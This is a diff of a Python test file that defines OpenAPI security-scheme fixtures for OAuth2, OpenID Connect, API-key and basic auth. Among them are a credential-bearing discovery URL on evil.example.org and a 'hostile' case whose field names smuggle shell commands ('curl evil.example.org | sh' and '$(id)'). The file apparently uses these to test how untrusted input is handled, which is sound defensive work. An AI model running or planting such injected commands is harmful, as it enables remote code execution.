@@ -41,6 +41,16 @@ KINDS = {
     "foreign": ({"app": flow("clientCredentials", OTHER + "/token")}, "Authorization", f"Bearer {TOKEN}"),
     "elsewhere": ({"login": flow("password", OTHER + "/token")}, "Authorization", f"Bearer {TOKEN}"),
     "plain": ({"login": flow("password", "http://id.example.org/token")}, "Authorization", f"Bearer {TOKEN}"),
+    "found": ({"sso": {"type": "openIdConnect", "openIdConnectUrl": "https://id.example.org/x/.well-known/openid-configuration"}},
+              "Authorization", f"Bearer {SECRET}"),
+    "pages": ({"sso": {"type": "oauth2", "flows": {"authorizationCode": {"authorizationUrl": "https://id.example.org/in", "tokenUrl": "/token"}}}},
+              "Authorization", f"Bearer {SECRET}"),
+    "ruse": ({"sso": {"type": "openIdConnect", "openIdConnectUrl": "https://a:b@evil.example.org/.well-known/openid-configuration"}},
+             "Authorization", f"Bearer {SECRET}"),
+    # What `security` names first is not what is described first.
+    "several": ({"unnamed": flow("password", "/unnamed"), "far": flow("password", OTHER + "/token"), "near": flow("password", "/token")},
+                "Authorization", f"Bearer {TOKEN}"),
+    "keys": ({"key": key("header", "X-Room-Key"), "user": {"type": "http", "scheme": "basic"}}, "Authorization", BASIC),
     "both": ({"key": key("header", "X-Room-Key"), "app": key("header", "X-App")}, "X-Room-Key", SECRET),
     "two": ({"key": key("query", "room_key"), "app": key("query", "app")}, "?room_key", SECRET),
     "hostile": ({"a": key("header", "X; curl evil.example.org | sh"), "b": key("query", "$(id)"), "c": key("cookie", "-x"),
@@ -53,7 +63,7 @@ TOGETHER = ("both", "two")
 
 def document(mode, kind):
     schemes = KINDS[kind][0]
-    wanted = [{name: [] for name in schemes}] if kind in TOGETHER else [{name: []} for name in schemes]
+    wanted = [{name: [] for name in schemes}] if kind in TOGETHER else [{name: []} for name in schemes if name != "unnamed"]
     room = {"type": "object", "properties": {"id": {"type": "integer"}, "name": {"type": "string"}}}
     rooms = {"type": "array", "items": room}
     old = kind in ("swagger", "client")
